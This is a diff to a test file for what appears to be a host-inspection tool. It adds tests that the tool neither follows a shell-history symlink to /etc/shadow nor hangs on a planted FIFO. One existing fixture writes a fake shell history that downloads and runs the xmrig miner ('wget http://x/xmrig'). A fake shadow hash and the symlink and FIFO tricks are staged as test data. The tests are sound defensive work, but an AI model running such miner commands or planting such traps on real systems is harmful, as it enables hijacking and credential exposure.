@@ -1,3 +1,4 @@
+import { spawnSync } from 'node:child_process';
 import crypto from 'node:crypto';
 import fs from 'node:fs';
 import path from 'node:path';
@@ -144,7 +145,7 @@ describe('executable', () => {
 
   it('a kernel thread has no executable, and says so', () => {
     const r = quick(2);
-    expect(r.executable).toEqual({ ok: false, reason: 'no executable (kernel thread or zombie)' });
+    expect(r.executable).toEqual({ ok: false, reason: 'no executable: kernel thread or zombie' });
     expect(data(r.cmdline)).toEqual([]);
     expect(data(r.identity).name).toBe('kthreadd');
   });
@@ -328,6 +329,27 @@ describe('history', () => {
     fs.rmSync(path.join(fx.root, 'home/bob/.bash_history'));
     fs.writeFileSync(path.join(fx.root, 'home/bob/.zsh_history'), ': 1700000000:0;wget http://x/xmrig\n: 1700000001:0;./xmrig -o pool\n');
     expect(data(quick(4300).history)).toEqual({ file: '/home/bob/.zsh_history', lines: ['wget http://x/xmrig', './xmrig -o pool'] });
+  });
+
+  it('does not follow a history symlink to another file', () => {
+    fs.writeFileSync(path.join(fx.root, 'etc/shadow'), 'root:$6$secret:19000::::::\n');
+    fs.mkdirSync(path.join(fx.root, 'home/carol'));
+    fs.symlinkSync('/etc/shadow', path.join(fx.root, 'home/carol/.bash_history'));
+    const r = quick(4301);
+    expect(r.history).toEqual({ ok: false, reason: '~/.bash_history is a link to /etc/shadow (not followed)' });
+    expect(JSON.stringify(r)).not.toContain('$6$secret');
+  });
+
+  it('a FIFO planted as history or wtmp does not hang the inspector', () => {
+    const fifo = path.join(fx.root, 'home/carol/.bash_history');
+    const wtmp = path.join(fx.root, 'var/log/wtmp');
+    fs.mkdirSync(path.join(fx.root, 'home/carol'));
+    expect(spawnSync('mkfifo', [fifo, wtmp]).status).toBe(0);
+    const t0 = performance.now();
+    const r = quick(4301);
+    expect(performance.now() - t0).toBeLessThan(1000);
+    expect(r.history).toEqual({ ok: false, reason: 'no shell history in /home/carol' });
+    expect(r.logins.ok && r.logins.data.source).toBe('/var/log/auth.log');
   });
 
   it('no history file is a plain reason', () => {
